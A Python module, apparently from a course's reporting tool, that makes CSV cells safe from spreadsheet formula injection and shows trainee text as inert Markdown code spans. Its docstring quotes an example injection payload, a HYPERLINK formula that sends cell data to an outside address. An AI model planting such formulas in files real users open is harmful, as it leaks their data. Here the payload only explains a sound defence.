"""Reports that are safe to open: CSV cells that never run as formulas, and trainee text in
Markdown that never renders as a link, an image, HTML or TeX.

CSV.
A cell that begins with =, +, -, @, a tab or a carriage return can run as a formula when a
trainer opens the file in Excel or LibreOffice (CSV injection; for example
`=HYPERLINK("https://...?"&A1, "click")` sends data elsewhere). Following OWASP's advice, such a
text cell gets a leading apostrophe, which spreadsheets show as text and do not display; the
csv module quotes cells and doubles embedded quotes. Numbers are left as numbers.

defusedcsv does the same for =, +, -, @, | and %, but not for a leading tab or carriage return,
which OWASP also lists, so the course keeps these few lines instead.

Markdown. Text a trainee typed (an answer they gave, a file name) is shown as a code span on one
line: Markdown, HTML and MathJax all leave a code span's content as text.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Mapping
from numbers import Number
from pathlib import Path

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """The value as a spreadsheet will show it as text, never as a formula."""
    if value is None or isinstance(value, Number):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def safe_row(row: Mapping) -> dict:
    return {key: safe_cell(value) for key, value in row.items()}


def restore_cell(text: str) -> str:
    """What `safe_cell` was given, for a program that reads back a file it wrote."""
    return text[1:] if text.startswith("'") and text[1:].startswith(FORMULA_STARTS) else text


def write_csv(path: Path, fields: Iterable[str], rows: Iterable[Mapping]) -> None:
    """Write rows as CSV with every text cell made safe to open."""
    with Path(path).open("w", newline="", encoding="utf-8", errors="backslashreplace") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(fields), quoting=csv.QUOTE_ALL)
        writer.writeheader()
        writer.writerows(safe_row(row) for row in rows)


def markdown_literal(value, limit: int = 200) -> str:
    """Trainee text as a one-line Markdown code span, so it can only ever show as text."""
    text = " ".join(str(value).split())
    text = text.encode("utf-8", "backslashreplace").decode("utf-8")
    if len(text) > limit:
        text = text[: limit - 3] + "..."
    longest = max((len(run) for run in re.findall(r"`+", text)), default=0)
    fence = "`" * (longest + 1)
    pad = " " if not text or text.startswith("`") or text.endswith("`") else ""
    return f"{fence}{pad}{text}{pad}{fence}"
